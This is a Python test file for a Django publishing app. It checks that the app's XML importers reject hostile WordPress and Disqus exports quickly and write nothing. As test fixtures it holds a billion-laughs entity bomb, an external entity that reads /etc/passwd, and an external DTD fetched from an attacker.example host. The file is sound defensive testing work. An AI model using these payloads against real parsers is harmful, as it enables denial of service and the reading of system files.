"""Hostile exports (entity bombs, external entities, external DTDs) are refused fast, and nothing is written."""

from __future__ import annotations

import time
import tracemalloc

import pytest
from django.core.management import CommandError, call_command

from broadsheet.importers.hardened_xml import HostileXml
from broadsheet.importers.models import ImportRecord
from broadsheet.importers.services import import_disqus, import_wxr
from broadsheet.publishing.models import Article

from .conftest import WxrPost, wxr_document

pytestmark = pytest.mark.django_db

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""


def with_prolog(prolog: str, body_entity: str = "") -> str:
    """A valid-looking export whose first post's title uses an entity declared in the prolog."""
    document = wxr_document([WxrPost(1, title="Title ENTITY")]).replace("ENTITY", body_entity)
    return prolog + document.split("\n", 1)[1]


@pytest.mark.parametrize(
    "prolog, entity",
    [
        (BILLION_LAUGHS, "&lol9;"),
        ('<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "&xxe;"),
        ('<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">\n', ""),
        ('<?xml version="1.0"?>\n<!-- a comment first -->\n<!DOCTYPE rss [<!ENTITY a "b">]>\n', "&a;"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "doctype-after-comment"],
)
def test_a_file_with_a_doctype_is_refused_quickly_with_a_clear_message(tmp_path, prolog, entity):
    path = tmp_path / "hostile.xml"
    path.write_text(with_prolog(prolog, entity))

    tracemalloc.start()
    started = time.monotonic()
    with pytest.raises(HostileXml, match="declares a DOCTYPE"):
        import_wxr(path)
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert elapsed < 1.0
    assert peak < 5 * 1024 * 1024
    assert not Article.objects.exists()
    assert not ImportRecord.objects.exists()


def test_the_command_reports_the_refusal_as_an_error(tmp_path):
    path = tmp_path / "bomb.xml"
    path.write_text(with_prolog(BILLION_LAUGHS, "&lol9;"))

    with pytest.raises(CommandError, match="billion laughs"):
        call_command("import-wordpress", str(path), verbosity=0)


def test_a_disqus_file_with_a_doctype_is_refused_too(tmp_path):
    path = tmp_path / "disqus.xml"
    path.write_text(BILLION_LAUGHS + '<disqus xmlns="http://disqus.com"><thread>&lol9;</thread></disqus>')

    with pytest.raises(HostileXml):
        import_disqus(path)


def test_an_undeclared_entity_is_an_error_not_an_expansion(tmp_path):
    path = tmp_path / "entity.xml"
    path.write_text(with_prolog('<?xml version="1.0"?>\n', "&undeclared;"))

    with pytest.raises(Exception, match="undeclared"):
        import_wxr(path)
    assert not Article.objects.exists()
